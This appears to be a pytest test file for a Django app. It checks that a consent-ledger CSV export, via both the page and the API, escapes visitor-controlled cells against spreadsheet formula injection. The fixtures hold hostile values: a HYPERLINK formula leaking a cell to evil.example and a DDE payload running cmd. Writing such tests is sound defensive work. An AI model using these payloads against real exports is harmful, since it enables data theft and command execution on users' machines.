"""The consent-ledger export through its page and its API: every visitor-controlled cell is escaped."""

import csv
import io

import pytest
from django.urls import reverse

from tests.factories.contacts import ContactFactory, grant

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://evil.example/?leak="&B2,"Abrir")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("via", ["page", "api"])
def test_ledger_export_escapes_every_visitor_controlled_cell(merchant, admin_membership, member_client, api, via):
    contact = ContactFactory(merchant=merchant, name=ATTACK, email="@SUM(1+1)@evil.example")
    grant(
        contact,
        wording="+Send me offers",
        user_agent="-2+3+cmd|' /C calc'!A0",
        evidence_message_id="\t=1+1",
        actor_label="\r@x",
    )
    if via == "page":
        response = member_client(admin_membership).get(reverse("contacts:ledger_export"))
    else:
        response = api.get("/api/v1/consent-events/export.csv")
    (row,) = _rows(response)
    cells = {
        k: row[k]
        for k in ("contact_name", "contact_email", "wording", "user_agent", "evidence_message_id", "actor_label")
    }
    assert cells == {
        "contact_name": "'" + ATTACK,
        "contact_email": "'@SUM(1+1)@evil.example",
        "wording": "'+Send me offers",
        "user_agent": "'-2+3+cmd|' /C calc'!A0",
        "evidence_message_id": "'\t=1+1",
        "actor_label": "'\r@x",
    }
